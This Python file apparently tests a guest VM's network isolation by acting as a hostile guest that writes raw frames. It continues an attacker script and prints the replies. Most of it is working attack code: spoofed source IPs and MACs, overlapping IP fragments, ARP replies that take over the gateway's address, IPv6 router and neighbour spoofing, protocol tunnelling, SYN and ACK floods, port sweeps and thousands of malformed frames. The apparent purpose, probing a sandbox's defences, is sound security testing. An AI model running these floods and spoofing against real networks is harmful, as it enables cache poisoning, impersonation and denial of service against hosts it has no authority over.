"""A hostile guest that writes its own Ethernet frames. Continues attacker.py; prints what came back."""

import random
import select
import time

GUEST_MAC, GATEWAY_MAC = bytes.fromhex("026d61746368"), bytes.fromhex("026d61746301")
GUEST, GATEWAY = "100.127.255.2", "100.127.255.1"
GUEST6, GATEWAY6 = "fd6d:6174:6368::2", "fd6d:6174:6368::1"
ANY = 3
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ANY))
wire.bind(("eth0", 0))
# Chance is the same every time.
chance = random.Random(4)


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ethernet(kind, payload, to=GATEWAY_MAC, source=GUEST_MAC):
    return to + source + struct.pack("!H", kind) + payload


def ip(protocol, payload, to, source=GUEST, identity=1, fragment=0, ttl=64, options=b"", length=None, head=None):
    head = head if head is not None else 0x45 + len(options) // 4
    length = 20 + len(options) + len(payload) if length is None else length
    fields = [head, 0, length, identity, fragment, ttl, protocol, 0]
    addresses = socket.inet_aton(source) + socket.inet_aton(to) + options
    start = struct.pack("!BBHHHBBH", *fields) + addresses
    start = start[:10] + struct.pack("!H", checksum(start)) + start[12:]
    return ethernet(0x0800, start + payload)


def ip6(protocol, payload, to, source=GUEST6, length=None):
    start = struct.pack("!IHBB", 6 << 28, len(payload) if length is None else length, protocol, 255)
    return ethernet(0x86DD, start + socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, to) + payload)


def pseudo(protocol, length, to, source):
    six = ":" in to
    addresses = b"".join(socket.inet_pton(socket.AF_INET6 if six else socket.AF_INET, it) for it in (source, to))
    return addresses + (struct.pack("!IBBBB", length, 0, 0, 0, protocol) if six else struct.pack("!BBH", 0, protocol, length))


def segment(port, flags, to, source=GUEST, sequence=1000, ack=0, payload=b"", from_port=None, options=b""):
    from_port = from_port or chance.randrange(20000, 60000)
    head = struct.pack("!HHIIBBHHH", from_port, port, sequence, ack, (5 + len(options) // 4) << 4, flags, 65535, 0, 0) + options + payload
    total = checksum(pseudo(6, len(head), to, source) + head)
    return head[:16] + struct.pack("!H", total) + head[18:]


def datagram(port, payload, to, source=GUEST):
    head = struct.pack("!HHHH", 5000, port, 8 + len(payload), 0) + payload
    return head[:6] + struct.pack("!H", checksum(pseudo(17, len(head), to, source) + head) or 0xFFFF) + head[8:]


def echo(payload=b"ping", kind=8):
    head = struct.pack("!BBHHH", kind, 0, 0, 7, 1) + payload
    return head[:2] + struct.pack("!H", checksum(head)) + head[4:]


def put(*frames):
    for frame in frames:
        try:
            wire.send(frame[:65000] if len(frame) >= 14 else frame + bytes(14 - len(frame)))
        except OSError:
            # Larger than the interface takes.
            pass


def heard(seconds, wanted):
    """How many frames to us within some time satisfy `wanted`."""
    count, until = 0, time.monotonic() + seconds
    while (left := until - time.monotonic()) > 0 and select.select([wire], [], [], left)[0]:
        frame, (_, _, direction, *_) = wire.recvfrom(70000)
        # 4: sent by us
        count += direction != 4 and wanted(frame)
    return count


def drain():
    heard(0.2, lambda frame: False)


def said(name, count):
    print(f"{name} => {count}", flush=True)


SYN, RST, ACK, PUSH = 2, 4, 16, 8
is_tcp = lambda frame: frame[12:14] == b"\x08\0" and frame[23] == 6
is_icmp = lambda frame: frame[12:14] == b"\x08\0" and frame[23] == 1
is_arp = lambda frame: frame[12:14] == b"\x08\x06"

drain()
# What works, so that silence elsewhere says something.
put(ip(1, echo(), GATEWAY))
said("control ping of the gateway", heard(3, is_icmp))
put(ip(1, echo(), NGINX), ip(1, echo(b"x" * 1400), "8.8.8.8"), ip(1, echo(kind=13), GATEWAY), ip(1, echo(kind=5), GATEWAY))
said("ping elsewhere, time stamps, redirects", heard(2, is_icmp))
put(ip(6, segment(80, SYN, NGINX), NGINX))
said("control SYN", min(1, heard(3, is_tcp)))

# Who we say that we are.
for source in ["100.127.255.3", GATEWAY, NGINX, "127.0.0.1", "0.0.0.0", "255.255.255.255", "224.0.0.1", "10.66.0.1"]:
    put(ip(6, segment(80, SYN, NGINX, source), NGINX, source), ip(17, datagram(53, question("spoofed.evil.test", 1), "8.8.8.8", source), "8.8.8.8", source))
    put(ip(17, datagram(9999, b"spoofed", TCP, source), TCP, source), ip(1, echo(), GATEWAY, source))
said("spoofed sources", heard(2, lambda frame: is_tcp(frame) or is_icmp(frame) or frame[23] == 17 and frame[12:14] == b"\x08\0"))
put(*[ethernet(0x0800, ip(6, segment(80, SYN, NGINX), NGINX)[14:], source=os.urandom(5) + b"\2") for _ in range(50)])
put(*[ethernet(0x0800, ip(6, segment(80, SYN, NGINX), NGINX)[14:], to=os.urandom(6)) for _ in range(50)])
drain()

# Fragments: of what would be allowed, overlapping, lying about where they are.
whole = segment(80, SYN, NGINX)
put(ip(6, whole[:8], NGINX, identity=9, fragment=0x2000), ip(6, whole[8:], NGINX, identity=9, fragment=1))
query = datagram(53, question("fragmented.evil.test", 1), "8.8.8.8")
put(ip(17, query[:24], "8.8.8.8", identity=10, fragment=0x2000), ip(17, query[24:], "8.8.8.8", identity=10, fragment=3))
put(ip(17, query[:24], "8.8.8.8", identity=11, fragment=0x2000), ip(17, query[16:], "8.8.8.8", identity=11, fragment=2))
put(ip(1, bytes(1400), GATEWAY, identity=12, fragment=0x1FFF), ip(1, bytes(1400), GATEWAY, identity=12, fragment=0x3FFF))
put(*[ip(6, whole, NGINX, identity=number, fragment=0x2000) for number in range(2000)])
said("fragments", heard(2, lambda frame: is_tcp(frame) or frame[23] == 17))

# Hardware addresses: for others' addresses, for our own, and to take the gateway's.
def arp(operation, sender_mac, sender, target_mac, target, to=b"\xff" * 6):
    return ethernet(0x0806, struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + sender_mac + socket.inet_aton(sender) + target_mac + socket.inet_aton(target), to)


drain()
put(arp(1, GUEST_MAC, GUEST, bytes(6), GATEWAY))
said("control who has the gateway", min(1, heard(2, is_arp)))
put(arp(1, GUEST_MAC, GUEST, bytes(6), GUEST), arp(1, GUEST_MAC, GUEST, bytes(6), "8.8.8.8"), arp(1, GUEST_MAC, GUEST, bytes(6), "10.66.0.1"))
said("who has other addresses", heard(1, is_arp))
put(*[arp(2, GUEST_MAC, GATEWAY, GATEWAY_MAC, GUEST), arp(2, os.urandom(6), GUEST, GATEWAY_MAC, GATEWAY), arp(1, GUEST_MAC, "8.8.8.8", bytes(6), GATEWAY)] * 20)
put(*[arp(2, os.urandom(6), f"100.127.{n % 256}.{n // 256}", GATEWAY_MAC, GATEWAY) for n in range(2000)])

# IPv6 while IPv4 is looked at, and its ways to say who is where.
put(ip6(6, segment(80, SYN, "2600:45:33:7::15", GUEST6), "2600:45:33:7::15"), ip6(17, datagram(9999, b"six", "2600:45:33:7::15", GUEST6), "2600:45:33:7::15"))
put(ip6(58, b"\x86\0\0\0" + bytes(12), "ff02::1", "fe80::1"), ip6(58, b"\x88\0\0\0" + bytes(20), GATEWAY6), ip6(58, b"\x87\0\0\0" + bytes(4) + socket.inet_pton(socket.AF_INET6, "fd00:66::1"), "ff02::1:ff00:1"))
for header in [0, 43, 44, 50, 51, 60, 135]:
    put(ip6(header, bytes([6, 0, 0, 0]) + bytes(4) + segment(80, SYN, "fd00:66::1", GUEST6), "fd00:66::1"), ip6(header, bytes([header, 255]) * 400, GATEWAY6))
put(ip6(41, ip(6, segment(80, SYN, "10.66.0.1"), "10.66.0.1")[14:], GATEWAY6), ip(41, ip6(6, b"", GATEWAY6)[14:], NGINX), ip(4, ip(6, whole, "10.66.0.1")[14:], GATEWAY), ip(47, bytes(80), GATEWAY))

# Datagrams of all kinds, QUIC among them, and another resolver.
put(*[ip(17, datagram(port, b"raw datagram", to), to) for to in [TCP, NGINX, "45.33.7.54", "10.66.0.1", GATEWAY] for port in [9999, 443, 80, 5353, 123, 1900]])
put(ip(17, datagram(53, question("raw.evil.test", 16), "45.33.7.54"), "45.33.7.54"))

# TCP that no client sends: no connection, data at once, wrong sums, a storm.
for flags in range(64):
    put(ip(6, segment(80, flags, NGINX, payload=b"GET / HTTP/1.0\r\nHost: cdn.evil.test\r\n\r\n"), NGINX), ip(6, segment(80, flags, "10.66.0.1"), "10.66.0.1"), ip(6, segment(0, flags, NGINX), NGINX))
put(*[ip(6, whole[:16] + b"\xde\xad" + whole[18:], NGINX)] * 20, *[ip(6, whole[:size], NGINX) for size in range(20)])
put(*[ip(6, segment(80, SYN, NGINX, options=bytes([kind, size]) + bytes(2)), NGINX) for kind in range(2, 40) for size in (0, 1, 2, 255)])
put(*[ip(6, segment(80, SYN, NGINX, sequence=n), NGINX) for n in range(5000)])
put(*[ip(6, segment(n, SYN, TCP), TCP) for n in range(1, 3000)])
put(*[ip(6, segment(443, ACK | PUSH, NGINX, sequence=chance.getrandbits(32), ack=chance.getrandbits(32), payload=bytes(1000)), NGINX) for _ in range(2000)])

# Frames that are none, and heads that lie.
put(*[os.urandom(size) for size in range(200)], *[ethernet(kind, os.urandom(60)) for kind in range(0, 65536, 61)])
put(*[ethernet(0x8100, b"\0\1" + ip(6, whole, NGINX)[12:])] * 3, *[ip(6, whole, NGINX, head=head) for head in range(256)])
put(*[ip(6, whole, NGINX, length=length) for length in (0, 1, 19, 20, 39, 41, 60, 1500, 65535)], *[ip(6, whole, NGINX, ttl=ttl) for ttl in (0, 1)])
put(*[ip(6, whole, NGINX, options=option + bytes(40 - len(option))) for option in (b"\x83\x27\x04" + socket.inet_aton("10.66.0.1"), b"\x07\xff\x04", b"\x94\x04", b"\x01" * 40)])
put(*[ip6(6, segment(80, SYN, GATEWAY6, GUEST6), GATEWAY6, length=length) for length in (0, 1, 19, 65535)], *[ethernet(0x86DD, os.urandom(size)) for size in range(80)])
put(*[ethernet(0x0800, os.urandom(chance.randrange(1, 1500))) for _ in range(3000)], *[ethernet(0x0800, bytes([0x45]) + os.urandom(chance.randrange(19, 200))) for _ in range(3000)])
put(*[ip(17, datagram(53, os.urandom(chance.randrange(0, 600)), "8.8.8.8"), "8.8.8.8") for _ in range(1000)])
drain()
attempt("control afterwards", lambda: answer(send(tls("www.good.test", "www.good.test"), get("www.good.test", "/hello"))))
